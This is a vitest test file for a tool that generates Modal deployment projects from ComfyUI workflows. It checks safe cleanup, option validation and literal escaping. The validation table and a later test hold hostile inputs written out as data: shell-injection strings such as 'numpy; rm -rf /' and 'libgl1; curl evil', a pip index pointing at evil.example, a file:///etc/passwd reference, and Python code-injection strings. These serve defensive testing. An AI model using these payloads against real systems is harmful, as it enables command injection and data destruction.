import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'
import { MARKER_FILE, pyLiteral, removeProjectDir, scaffoldModalProject } from '../src/index.js'
import { cleanupTempDirs, FIXTURES, nodePackDir, tempDir } from './helpers.js'

afterAll(cleanupTempDirs)
const workflow = join(FIXTURES, 'echo-prompt.json')
const base = () => ({ workflow, outDir: tempDir(), appName: 'safe-app', nodePackDir: nodePackDir() })

describe('clean build only removes what we made', () => {
  it('refuses a directory without our marker and deletes nothing', async () => {
    const opts = base()
    const dir = join(opts.outDir, 'safe-app')
    mkdirSync(dir)
    writeFileSync(join(dir, 'precious.txt'), 'keep me')
    await expect(scaffoldModalProject({ ...opts, cleanBuild: true })).rejects.toMatchObject({
      code: 'CLEAN_REFUSED',
      message: expect.stringContaining(MARKER_FILE),
    })
    await expect(scaffoldModalProject(opts)).rejects.toMatchObject({ code: 'OUTPUT_EXISTS' })
    expect(readFileSync(join(dir, 'precious.txt'), 'utf8')).toBe('keep me')
  })

  it('refuses a symlinked project directory pointing elsewhere', async () => {
    const opts = base()
    const elsewhere = tempDir()
    writeFileSync(
      join(elsewhere, MARKER_FILE),
      JSON.stringify({ tool: 'comfy-remote-modal', app_name: 'safe-app', version: '0' }),
    )
    symlinkSync(elsewhere, join(opts.outDir, 'safe-app'))
    await expect(scaffoldModalProject({ ...opts, cleanBuild: true })).rejects.toMatchObject({
      code: 'CLEAN_REFUSED',
    })
    expect(existsSync(join(elsewhere, MARKER_FILE))).toBe(true)
  })

  it('refuses a directory outside the output root even with a marker', async () => {
    const root = tempDir()
    const outside = tempDir()
    writeFileSync(
      join(outside, MARKER_FILE),
      JSON.stringify({ tool: 'comfy-remote-modal', app_name: 'x', version: '0' }),
    )
    await expect(removeProjectDir(root, outside)).rejects.toMatchObject({ code: 'CLEAN_REFUSED' })
    await expect(removeProjectDir(root, root)).rejects.toMatchObject({ code: 'CLEAN_REFUSED' })
    expect(existsSync(join(outside, MARKER_FILE))).toBe(true)
  })

  it('removes our own project, stale files included', async () => {
    const opts = base()
    const first = await scaffoldModalProject(opts)
    writeFileSync(join(first.dir, 'stale.txt'), 'old')
    const second = await scaffoldModalProject({ ...opts, cleanBuild: true })
    expect(existsSync(join(second.dir, 'stale.txt'))).toBe(false)
    expect(existsSync(join(second.dir, 'workflow.py'))).toBe(true)
  })
})

describe('hostile strings are rejected before anything is written', () => {
  it.each([
    ['appName', '../escape'],
    ['appName', 'a/b'],
    ['appName', 'a"b'],
    ['appName', "x'); import os #"],
    ['appName', 'name\nimport os'],
    ['appName', '$(id)'],
    ['appName', '-rf'],
    ['appName', 'x'.repeat(64)],
    ['appName', 'x'.repeat(60)], // <app>-jobs / <app>-auth would pass Modal's 64 characters
    ['appName', '..'],
    ['pipPackages', 'numpy; rm -rf /'],
    ['pipPackages', '--index-url=https://evil.example/simple'],
    ['pipPackages', 'a"b'],
    ['pipPackages', '`id`'],
    ['pipPackages', ['numpy $(id)']],
    ['pipPackages', 'x @ file:///etc/passwd'],
    ['aptPackages', 'libgl1; curl evil'],
    ['aptPackages', '-o=APT::x'],
    ['aptPackages', 'Libgl1'],
    ['gpu', 'H100"); import os #'],
    ['gpu', 'H100 --x'],
    ['comfyuiRef', '--upload-pack=evil'],
    ['comfyuiRepo', 'file:///etc'],
    ['authSecretName', 'a b'],
    ['pythonVersion', '3.9'],
    ['pythonVersion', '3.11; rm'],
  ])('%s = %j', async (field, value) => {
    const opts = { ...base(), [field]: value }
    await expect(scaffoldModalProject(opts)).rejects.toMatchObject({
      code: 'INVALID_OPTIONS',
      message: expect.stringContaining(field === 'appName' ? 'appName' : field),
    })
    expect(existsSync(join(opts.outDir, 'safe-app'))).toBe(false)
  })
})

describe('Modal name limits', () => {
  it('accepts a 59-character app name; its Dict and Secret names stay within 64 characters', async () => {
    const appName = 'x'.repeat(59)
    const result = await scaffoldModalProject({ ...base(), appName })
    const config = JSON.parse(readFileSync(join(result.dir, 'modal_config.json'), 'utf8'))
    expect(`${config.app_name}-jobs`.length).toBeLessThanOrEqual(64)
    expect(config.auth.secret_name.length).toBeLessThanOrEqual(64)
  })
})

function pythonEval(literals: string[]): unknown[] {
  const script =
    'import ast, json, sys\nprint(json.dumps([ast.literal_eval(s) for s in json.load(sys.stdin)]))'
  return JSON.parse(
    execFileSync('python3', ['-c', script], { input: JSON.stringify(literals), timeout: 30_000 }).toString(),
  ) as unknown[]
}

describe('values reach Python as literals', () => {
  it('pyLiteral round-trips any JSON value through ast.literal_eval', () => {
    const values = fc
      .sample(fc.jsonValue({ maxDepth: 3 }), 300)
      .concat(['"""', "'''", '\\', '\n\r\t\0', '\u2028', '\ud800', '\u{1f600}', 'x"); import os #'])
    const literals = values.map(pyLiteral)
    for (const lit of literals) expect(/^[\x20-\x7e]*$/.test(lit)).toBe(true)
    expect(pythonEval(literals)).toEqual(JSON.parse(JSON.stringify(values)))
  })

  it('a hostile Remote Input key in the workflow stays data in workflow.py', async () => {
    const evil = 'x"""\nimport os; os.system("echo pwned") #\'\'\''
    const prompt = JSON.parse(readFileSync(workflow, 'utf8'))
    prompt['1'].inputs.key = evil
    const result = await scaffoldModalProject({ ...base(), workflow: prompt })
    const file = join(result.dir, 'workflow.py')
    execFileSync('python3', ['-m', 'py_compile', file], { timeout: 30_000 })
    const line =
      readFileSync(file, 'utf8')
        .split('\n')
        .find((l) => l.startsWith('CONTRACT = ')) ?? ''
    const [contract] = pythonEval([line.slice('CONTRACT = '.length)]) as Array<{
      inputs: Array<{ name: string }>
    }>
    expect(contract?.inputs[0]?.name).toBe(evil)
  })
})
